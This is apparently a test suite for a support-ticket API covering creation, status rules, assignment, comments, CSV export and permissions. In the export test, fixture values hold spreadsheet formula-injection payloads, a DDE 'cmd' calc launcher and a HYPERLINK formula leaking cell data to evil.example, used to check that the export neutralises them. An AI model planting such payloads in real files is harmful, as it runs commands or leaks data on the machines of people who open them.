import { and, eq } from "drizzle-orm";
import { auditLog, roles, tickets } from "../db/schema";
import {
  TicketAssigneeListSchema,
  TicketDetailSchema,
  TicketListSchema,
  TicketStatsSchema,
} from "../schemas/tickets";
import type { TicketDetail } from "../schemas/tickets";
import {
  FORBIDDEN_BODY,
  UNAUTHORIZED_BODY,
  backendWithTeam,
  expectExactly,
  makeCustomer,
  makeRole,
  makeTicket,
  makeUser,
  signedInAs,
} from "../test/factories";

const { backend, team } = await backendWithTeam({ support: { firstname: "Aisha", lastname: "Bello" } });
const colleague = await makeUser(backend.db, { role: "support", firstname: "Kelechi", lastname: "Amadi" });
// May work on tickets but not manage them: cannot reopen a closed one.
const worker = await makeRole(backend.db, "ticket worker", ["read:Tickets", "write:Tickets"]);
const { token: workerToken } = await signedInAs(backend, worker.id);

const get = (path: string, token = team.admin.token) => backend.request("GET", path, { token });
const create = (body: unknown, token = team.support.token) =>
  backend.request("POST", "/api/v1/tickets/create", { token, body });
const patch = (id: string, body: unknown, token = team.support.token) =>
  backend.request("PATCH", `/api/v1/tickets/${id}`, { token, body });
const comment = (id: string, body: unknown, token = team.support.token) =>
  backend.request("POST", `/api/v1/tickets/${id}/comments`, { token, body });

const newTicket = (fields: Record<string, unknown> = {}) => ({
  type: "problem",
  priority: "high",
  subject: "Inverter beeps at night",
  description: "The customer's inverter beeps every hour after 10pm.",
  ...fields,
});

async function moved(id: string, body: unknown, token = team.support.token): Promise<TicketDetail> {
  const response = await patch(id, body, token);
  expect(response.status).toBe(200);
  const detail = await response.json();
  expectExactly(TicketDetailSchema, detail);
  return detail;
}

/** The history without ids and times: who did what. */
const story = (detail: TicketDetail) =>
  detail.history.map(({ kind, actorName, fromStatus, toStatus, fromAssigneeName, toAssigneeName, body }) => ({
    kind,
    actorName,
    ...(fromStatus || toStatus ? { fromStatus, toStatus } : {}),
    ...(kind === "assignee" ? { fromAssigneeName, toAssigneeName } : {}),
    ...(body ? { body } : {}),
  }));

describe("POST /api/v1/tickets/create", () => {
  it("opens a ticket about a customer, with its first history entry and an audit row", async () => {
    const customer = await makeCustomer(backend.db, { firstname: "Ngozi", lastname: "Okafor" });
    const response = await create(newTicket({ customerId: customer.id }));
    expect(response.status).toBe(201);
    const body = await response.json();
    expectExactly(TicketDetailSchema, body);
    expect(body).toMatchObject({
      type: "problem",
      priority: "high",
      subject: "Inverter beeps at night",
      status: "open",
      customerId: customer.id,
      customerName: "Ngozi Okafor",
      assigneeId: null,
      assigneeName: null,
      creatorId: team.support.user.id,
      creatorName: "Aisha Bello",
    });
    expect(story(body)).toEqual([
      { kind: "created", actorName: "Aisha Bello", fromStatus: null, toStatus: "open" },
    ]);
    expect(await (await get(`/api/v1/tickets/${body.id}`)).json()).toEqual(body);
    const audit = await backend.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.recordId, body.id), eq(auditLog.subject, "Tickets")));
    expect(audit).toMatchObject([
      { action: "create", summary: 'Opened ticket "Inverter beeps at night" (high priority problem)' },
    ]);
  });

  it("names every missing field with the spec's messages", async () => {
    const response = await create({});
    expect(response.status).toBe(400);
    expect((await response.json()).fieldErrors).toEqual({
      type: ["Type is required"],
      priority: ["Priority is required"],
      subject: ["Subject is required"],
      description: ["Description is required"],
    });
  });

  it.each([
    [{ type: "" }, "type", "Type is required"],
    [{ type: "bug" }, "type", "Type must be question, problem, feature, other"],
    [{ priority: "" }, "priority", "Priority is required"],
    [{ priority: "urgent" }, "priority", "Priority must be low, medium, high"],
    [{ subject: "   " }, "subject", "Subject is required"],
    [{ description: "" }, "description", "Description is required"],
    [{ subject: "x".repeat(201) }, "subject", "Subject must be at most 200 characters"],
    [{ customerId: "no-such-customer" }, "customerId", "Customer not found"],
  ])("refuses %j", async (fields, field, message) => {
    const response = await create(newTicket(fields));
    expect(response.status).toBe(400);
    expect((await response.json()).fieldErrors).toEqual({ [field]: [message] });
  });

  it("takes every type and priority, and no customer", async () => {
    for (const [type, priority] of [
      ["question", "low"],
      ["feature", "medium"],
      ["other", "high"],
    ]) {
      const response = await create(newTicket({ type, priority, customerId: "" }));
      expect(response.status).toBe(201);
      expect(await response.json()).toMatchObject({ type, priority, customerId: null, customerName: null });
    }
  });
});

describe("GET /api/v1/tickets and /stats", () => {
  it("lists tickets newest first, filtered by status and searched in subject and description", async () => {
    const older = await makeTicket(backend.db, {
      subject: "Listtag meter",
      createdAt: new Date(Date.now() + 60_000),
    });
    const newer = await makeTicket(backend.db, {
      description: "listtag battery",
      status: "active",
      assigneeId: team.support.user.id,
      createdAt: new Date(Date.now() + 90_000),
    });
    const response = await get("/api/v1/tickets?search=LISTTAG", team.viewer.token);
    expect(response.status).toBe(200);
    const body = await response.json();
    expectExactly(TicketListSchema, body);
    expect(body.tickets.map((ticket: { id: string }) => ticket.id)).toEqual([newer.id, older.id]);
    expect(body.tickets[0]).toMatchObject({ assigneeName: "Aisha Bello", status: "active" });
    expect(body).toMatchObject({ total: 2, page: 1, limit: 20, totalPages: 1 });
    const open = await (await get("/api/v1/tickets?search=listtag&status=open")).json();
    expect(open.tickets.map((ticket: { id: string }) => ticket.id)).toEqual([older.id]);
    const bad = await get("/api/v1/tickets?status=pending");
    expect(bad.status).toBe(400);
    expect((await bad.json()).fieldErrors).toEqual({
      status: ["Status must be open, active, resolved, closed"],
    });
  });

  it("counts all, active and open tickets", async () => {
    const stats = async () => {
      const body = await (await get("/api/v1/tickets/stats", team.viewer.token)).json();
      expectExactly(TicketStatsSchema, body);
      return body;
    };
    const before = await stats();
    expect(before).toEqual({
      totalTicketCount: await backend.db.$count(tickets),
      activeTicketCount: await backend.db.$count(tickets, eq(tickets.status, "active")),
      openTicketCount: await backend.db.$count(tickets, eq(tickets.status, "open")),
    });
    await makeTicket(backend.db);
    await makeTicket(backend.db, { status: "active", assigneeId: team.support.user.id });
    await makeTicket(backend.db, { status: "closed" });
    expect(await stats()).toEqual({
      totalTicketCount: before.totalTicketCount + 3,
      activeTicketCount: before.activeTicketCount + 1,
      openTicketCount: before.openTicketCount + 1,
    });
  });

  it("answers 404 for an unknown ticket", async () => {
    const response = await get("/api/v1/tickets/no-such-ticket");
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({
      statusCode: 404,
      message: "Ticket not found",
      error: "Not Found",
    });
  });
});

describe("PATCH /api/v1/tickets/{id}: the status life", () => {
  it("goes open → active (by assigning) → resolved → closed, every step in the history", async () => {
    const { id } = await (await create(newTicket())).json();
    const assigned = await moved(id, { assigneeId: colleague.id });
    expect(assigned).toMatchObject({
      status: "active",
      assigneeId: colleague.id,
      assigneeName: "Kelechi Amadi",
    });
    const resolved = await moved(id, { status: "resolved" });
    expect(resolved).toMatchObject({ status: "resolved", assigneeId: colleague.id });
    const closed = await moved(id, { status: "closed" });
    expect(story(closed)).toEqual([
      { kind: "created", actorName: "Aisha Bello", fromStatus: null, toStatus: "open" },
      { kind: "assignee", actorName: "Aisha Bello", fromAssigneeName: null, toAssigneeName: "Kelechi Amadi" },
      { kind: "status", actorName: "Aisha Bello", fromStatus: "open", toStatus: "active" },
      { kind: "status", actorName: "Aisha Bello", fromStatus: "active", toStatus: "resolved" },
      { kind: "status", actorName: "Aisha Bello", fromStatus: "resolved", toStatus: "closed" },
    ]);
    for (const event of closed.history) expect(Date.parse(event.createdAt)).not.toBeNaN();
    const audit = await backend.db
      .select({ action: auditLog.action, summary: auditLog.summary })
      .from(auditLog)
      .where(eq(auditLog.recordId, id))
      .orderBy(auditLog.createdAt);
    expect(audit.map((row) => row.summary)).toEqual([
      'Opened ticket "Inverter beeps at night" (high priority problem)',
      'Ticket "Inverter beeps at night": open → active, assigned',
      'Ticket "Inverter beeps at night": active → resolved',
      'Ticket "Inverter beeps at night": resolved → closed',
    ]);
  });

  it("makes a ticket active by status when it names its assignee in the same change", async () => {
    const { id } = await (await create(newTicket())).json();
    expect(await moved(id, { status: "active", assigneeId: team.support.user.id })).toMatchObject({
      status: "active",
      assigneeId: team.support.user.id,
    });
  });

  it("puts an active ticket back to open when its assignee is taken off, and open clears the assignee", async () => {
    const ticket = await makeTicket(backend.db, { status: "active", assigneeId: colleague.id });
    expect(await moved(ticket.id, { assigneeId: null })).toMatchObject({ status: "open", assigneeId: null });
    await moved(ticket.id, { assigneeId: colleague.id });
    const reopened = await moved(ticket.id, { status: "open" });
    expect(reopened).toMatchObject({ status: "open", assigneeId: null });
    expect(story(reopened).slice(-2)).toEqual([
      { kind: "assignee", actorName: "Aisha Bello", fromAssigneeName: "Kelechi Amadi", toAssigneeName: null },
      { kind: "status", actorName: "Aisha Bello", fromStatus: "active", toStatus: "open" },
    ]);
  });

  it("hands a ticket from one assignee to another without changing its status", async () => {
    const ticket = await makeTicket(backend.db, { status: "active", assigneeId: colleague.id });
    const handed = await moved(ticket.id, { assigneeId: team.support.user.id });
    expect(handed).toMatchObject({ status: "active", assigneeName: "Aisha Bello" });
    expect(story(handed)).toEqual([
      {
        kind: "assignee",
        actorName: "Aisha Bello",
        fromAssigneeName: "Kelechi Amadi",
        toAssigneeName: "Aisha Bello",
      },
    ]);
  });

  it("reopens resolved and closed tickets, as open or active", async () => {
    const resolved = await makeTicket(backend.db, { status: "resolved", assigneeId: colleague.id });
    expect(await moved(resolved.id, { status: "active" })).toMatchObject({
      status: "active",
      assigneeId: colleague.id,
    });
    const closed = await makeTicket(backend.db, { status: "closed", assigneeId: colleague.id });
    expect(await moved(closed.id, { status: "open" })).toMatchObject({ status: "open", assigneeId: null });
    const closedAgain = await makeTicket(backend.db, { status: "closed" });
    expect(await moved(closedAgain.id, { status: "active", assigneeId: colleague.id })).toMatchObject({
      status: "active",
    });
  });

  it.each([
    ["open", "resolved", "An open ticket cannot be moved to resolved"],
    ["active", "closed", "An active ticket cannot be moved to closed"],
    ["closed", "resolved", "A closed ticket cannot be moved to resolved"],
  ] as const)("refuses %s → %s", async (from, to, message) => {
    const ticket = await makeTicket(backend.db, {
      status: from,
      assigneeId: from === "open" ? null : colleague.id,
    });
    const response = await patch(ticket.id, { status: to });
    expect(response.status).toBe(400);
    expect((await response.json()).fieldErrors).toEqual({ status: [message] });
    const [after] = await backend.db.select().from(tickets).where(eq(tickets.id, ticket.id));
    expect(after.status).toBe(from);
  });

  it("refuses making a ticket active with nobody on it, and open with someone on it", async () => {
    const open = await makeTicket(backend.db);
    const response = await patch(open.id, { status: "active" });
    expect(response.status).toBe(400);
    expect((await response.json()).fieldErrors).toEqual({
      status: ["Assign someone before making the ticket active"],
    });
    const active = await makeTicket(backend.db, { status: "active", assigneeId: colleague.id });
    const contradiction = await patch(active.id, { status: "open", assigneeId: team.support.user.id });
    expect((await contradiction.json()).fieldErrors).toEqual({
      assigneeId: ["An open ticket has nobody on it: make it active to keep an assignee"],
    });
    const unassignedActive = await patch(active.id, { status: "active", assigneeId: null });
    expect((await unassignedActive.json()).fieldErrors).toEqual({
      status: ["Assign someone before making the ticket active"],
    });
  });

  it("assigns only live staff whose role works on tickets", async () => {
    const ticket = await makeTicket(backend.db);
    const blocked = await makeUser(backend.db, { role: "support", isBlocked: true });
    for (const [assigneeId, message] of [
      ["no-such-user", "Staff member not found"],
      [team.viewer.user.id, "This staff member cannot work on tickets"],
      [blocked.id, "This staff member cannot work on tickets"],
    ]) {
      const response = await patch(ticket.id, { assigneeId });
      expect(response.status).toBe(400);
      expect((await response.json()).fieldErrors).toEqual({ assigneeId: [message] });
    }
  });

  it("lets only a role that manages tickets reopen a closed one", async () => {
    const closed = await makeTicket(backend.db, { status: "closed" });
    const refused = await patch(closed.id, { status: "open" }, workerToken);
    expect(refused.status).toBe(403);
    expect(await refused.json()).toEqual({
      statusCode: 403,
      message: "Only a role that manages tickets can reopen a closed ticket",
      error: "Forbidden",
    });
    const resolved = await makeTicket(backend.db, { status: "resolved", assigneeId: colleague.id });
    expect(await moved(resolved.id, { status: "open" }, workerToken)).toMatchObject({ status: "open" });
  });

  it("refuses an empty change and bad values, keeps a no-op out of the history, and 404s unknown tickets", async () => {
    const ticket = await makeTicket(backend.db);
    const empty = await patch(ticket.id, {});
    expect(empty.status).toBe(400);
    expect((await empty.json()).message).toBe("At least one field must be provided to update");
    expect((await (await patch(ticket.id, { status: "done" })).json()).fieldErrors).toEqual({
      status: ["Status must be open, active, resolved, closed"],
    });
    expect((await moved(ticket.id, { status: "open" })).history).toEqual([]);
    expect((await patch("no-such-ticket", { status: "closed" })).status).toBe(404);
  });
});

describe("GET /api/v1/tickets/assignees", () => {
  it("lists by name exactly the staff a ticket can be given to", async () => {
    const blocked = await makeUser(backend.db, { role: "support", firstname: "Blocked", isBlocked: true });
    const inactive = await makeUser(backend.db, { role: "support", firstname: "Away", status: "inactive" });
    const gone = await makeUser(backend.db, { role: "support", firstname: "Gone", deletedAt: new Date() });
    const worker = await makeRole(backend.db, "ticket helper", ["read:Tickets", "write:Tickets"]);
    const helper = await makeUser(backend.db, { role: worker.id, firstname: "Helper" });
    const retired = await makeRole(backend.db, "retired ticket role", ["manage:Tickets"]);
    const retiree = await makeUser(backend.db, { role: retired.id, firstname: "Retiree" });
    await backend.db.update(roles).set({ active: false }).where(eq(roles.id, retired.id));

    const response = await get("/api/v1/tickets/assignees", team.support.token);
    expect(response.status).toBe(200);
    const body = await response.json();
    expectExactly(TicketAssigneeListSchema, body);
    const ids = body.assignees.map((person: { id: string }) => person.id);
    expect(ids).toEqual(expect.arrayContaining([team.support.user.id, colleague.id, helper.id]));
    for (const refused of [team.viewer.user.id, blocked.id, inactive.id, gone.id, retiree.id]) {
      expect(ids).not.toContain(refused);
    }
    expect(body.assignees).toContainEqual({ id: team.support.user.id, name: "Aisha Bello" });
    const names = body.assignees.map((person: { name: string }) => person.name);
    expect(names).toEqual([...names].sort((a: string, b: string) => a.localeCompare(b, "en")));
    // Whoever the list offers, the assignment accepts.
    const ticket = await makeTicket(backend.db);
    expect(await moved(ticket.id, { assigneeId: helper.id })).toMatchObject({ status: "active" });
  });

  it("is for roles that work on tickets", async () => {
    expect((await get("/api/v1/tickets/assignees", team.viewer.token)).status).toBe(403);
    expect((await get("/api/v1/tickets/assignees", workerToken)).status).toBe(200);
  });
});

describe("POST /api/v1/tickets/{id}/comments", () => {
  it("adds a comment to the thread with who and when", async () => {
    const { id } = await (await create(newTicket())).json();
    const response = await comment(id, { body: "  Called the customer; visiting Tuesday.  " });
    expect(response.status).toBe(201);
    const detail = await response.json();
    expectExactly(TicketDetailSchema, detail);
    expect(story(detail).at(-1)).toEqual({
      kind: "comment",
      actorName: "Aisha Bello",
      body: "Called the customer; visiting Tuesday.",
    });
    const [audit] = await backend.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.recordId, id), eq(auditLog.action, "comment")));
    expect(audit.summary).toBe('Commented on ticket "Inverter beeps at night"');
  });

  it("refuses an empty comment and unknown tickets", async () => {
    const ticket = await makeTicket(backend.db);
    const empty = await comment(ticket.id, { body: " " });
    expect(empty.status).toBe(400);
    expect((await empty.json()).fieldErrors).toEqual({ body: ["Comment is required"] });
    expect((await comment("no-such-ticket", { body: "hello" })).status).toBe(404);
  });
});

describe("GET /api/v1/tickets/export", () => {
  const decode = async (response: Response) =>
    new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());

  it("streams a CSV with plain-English headers and neutralises cells a spreadsheet would run", async () => {
    const customer = await makeCustomer(backend.db, { firstname: "=cmd|' /C calc'!A0", lastname: "Eze" });
    const ticket = await makeTicket(backend.db, {
      subject: '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
      description: "+1 more, then -2 and @SUM(A1)",
      customerId: customer.id,
      status: "active",
      assigneeId: colleague.id,
    });
    const response = await get(
      `/api/v1/tickets/export?search=${encodeURIComponent("evil.example")}`,
      team.viewer.token,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="tickets_export_\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const text = await decode(response);
    expect(text.startsWith("\uFEFF")).toBe(true);
    const lines = text.slice(1).split("\r\n");
    expect(lines[0]).toBe(
      "Ticket ID,Subject,Description,Type,Priority,Status,Customer,Assigned to,Created by,Created at,Last updated",
    );
    expect(lines[1]).toBe(
      [
        ticket.id,
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for details"")"`,
        `"'+1 more, then -2 and @SUM(A1)"`,
        "question",
        "medium",
        "active",
        `'=cmd|' /C calc'!A0 Eze`,
        "Kelechi Amadi",
        "",
        ticket.createdAt.toISOString(),
        ticket.updatedAt.toISOString(),
      ].join(","),
    );
    expect(lines.slice(2)).toEqual([""]);
  });

  it("exports every ticket the filters select, across batches, each once", async () => {
    const moment = new Date(Date.now() - 86_400_000);
    // More than one batch of 1,000, all created in the same microsecond: the paging must not skip or repeat.
    await backend.db.insert(tickets).values(
      Array.from({ length: 1_005 }, (_, index) => ({
        type: "other" as const,
        priority: "low" as const,
        subject: `Bulkexport ${index}`,
        description: "-",
        createdAt: moment,
      })),
    );
    const text = await decode(await get("/api/v1/tickets/export?search=bulkexport&status=open"));
    const rows = text.slice(1).split("\r\n").slice(1, -1);
    expect(rows).toHaveLength(1_005);
    expect(new Set(rows.map((row) => row.split(",")[0])).size).toBe(1_005);
    const header = await decode(await get("/api/v1/tickets/export?search=bulkexport&status=closed"));
    expect(header.slice(1).split("\r\n").filter(Boolean)).toHaveLength(1);
    expect((await get("/api/v1/tickets/export?status=pending")).status).toBe(400);
  });
});

describe("permissions", () => {
  const reads: [string, string][] = [
    ["GET", "/api/v1/tickets"],
    ["GET", "/api/v1/tickets/stats"],
    ["GET", "/api/v1/tickets/export"],
    ["GET", "/api/v1/tickets/some-id"],
  ];
  const writes: [string, string, unknown][] = [
    ["GET", "/api/v1/tickets/assignees", undefined],
    ["POST", "/api/v1/tickets/create", {}],
    ["PATCH", "/api/v1/tickets/some-id", {}],
    ["POST", "/api/v1/tickets/some-id/comments", {}],
  ];

  it("lets a viewer read tickets but not open, move or comment on them", async () => {
    const ticket = await makeTicket(backend.db);
    for (const [, path] of reads) {
      expect((await get(path.replace("some-id", ticket.id), team.viewer.token)).status).toBe(200);
    }
    expect((await create(newTicket(), team.viewer.token)).status).toBe(403);
    expect((await patch(ticket.id, { status: "closed" }, team.viewer.token)).status).toBe(403);
    const refused = await comment(ticket.id, { body: "hi" }, team.viewer.token);
    expect(refused.status).toBe(403);
    expect(await refused.json()).toEqual(FORBIDDEN_BODY);
  });

  it.each([...reads, ...writes])(
    "%s %s answers 403 to a role without Tickets permission",
    async (method, path, body?: unknown) => {
      const response = await backend.request(method, path, { token: team.inventory.token, body });
      expect(response.status).toBe(403);
      expect(await response.json()).toEqual(FORBIDDEN_BODY);
    },
  );

  it.each([...reads, ...writes])(
    "%s %s answers 401 without a token",
    async (method, path, body?: unknown) => {
      const response = await backend.request(method, path, { body });
      expect(response.status).toBe(401);
      expect(await response.json()).toEqual(UNAUTHORIZED_BODY);
    },
  );
});
